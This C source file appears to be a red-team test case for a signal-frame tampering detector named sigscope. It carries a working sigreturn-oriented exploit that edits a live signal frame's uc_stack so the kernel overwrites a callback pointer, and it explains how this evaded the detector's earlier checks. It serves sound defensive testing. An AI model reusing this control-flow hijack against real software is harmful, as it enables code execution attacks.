/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * srop_preexisting_ucstack (red team round 10, a4_preexisting_ucstack): round 4's
 * srop_ucstack_aim through a frame older than sigscope. Attach mode: the thread waits for the go
 * inside its SIGUSR1 handler (a collector's suspend handler parks threads so), so its frame is
 * live at attach and the attach-time snapshot records it. After the go only the frame's
 * uc_stack is edited, aiming the "altstack" the sigreturn installs at a callback pointer: the
 * kernel's next SA_ONSTACK frame writes a sigqueue'd si_value (mal_pwned) over it.
 *
 * Why it got through: an excused frame of the snapshot was compared register by register, and
 * uc_stack is no register; the altstack check applied to matched frames only. The altstack a
 * preexisting frame restores must be the one it held at attach (the geometric excuse: the one
 * the thread had at attach), judged at the exit where the kernel has restored it.
 *
 * Expected from sigscope: tampered_context >= high (uc_stack changed since the attach) for the
 * pid; under --enforce, SIGKILL before mal_pwned runs (no marker).
 */
#include "mal.h"

#define SS_SIZE 16384UL

static unsigned char arena[65536] __attribute__((aligned(64)));
struct obj {
	long pad;
	void (*fn)(void); /* 8 mod 64, where a frame's si_value can land */
};

static void benign(void)
{
	mal_say("benign callback");
}

/* SIGUSR1: parked here until the go, then aims the altstack its sigreturn restores. */
static void parked(int sig, siginfo_t *info, void *ucv)
{
	ucontext_t *uc = ucv;
	struct obj *o = (struct obj *)(arena + 49152);
	unsigned long xsize, target, top;

	(void)sig;
	(void)info;
	mal_wait_go(); /* sigscope attaches while this frame is live */
	/* The frame's FP area size (fpx_sw_bytes.xstate_size); an rt frame's si_value lies at
	 * frame + 0x150 and the frame 0x1c8 below its FP area, which ends at the altstack's top. */
	xsize = ((unsigned int *)uc->uc_mcontext.fpregs->__glibc_reserved1)[13];
	target = (unsigned long)&o->fn + 0x78;
	top = target + xsize;
	uc->uc_stack.ss_sp = (void *)(top - SS_SIZE);
	uc->uc_stack.ss_size = SS_SIZE;
	uc->uc_stack.ss_flags = 0;
	mal_say("uc_stack of the frame live at attach aimed at %p (xstate %lu)", (void *)&o->fn,
		xsize);
}

static void onstack(int sig, siginfo_t *info, void *uc)
{
	(void)sig;
	(void)info;
	(void)uc;
}

int main(void)
{
	struct obj *o = (struct obj *)(arena + 49152);
	union sigval value = {.sival_ptr = (void *)mal_pwned};

	mal_init("srop_preexisting_ucstack", 10);
	o->fn = benign;
	mal_handle(SIGUSR1, parked, 0);
	mal_handle(SIGALRM, onstack, SA_ONSTACK);
	mal_raise_here(SIGUSR1); /* returns once the aimed uc_stack is installed */
	if (sigqueue(getpid(), SIGALRM, value))
		mal_die(MAL_EXIT_SETUP, "sigqueue");
	o->fn();
	mal_say("the callback was not overwritten");
	_exit(MAL_EXIT_NOTHING);
}
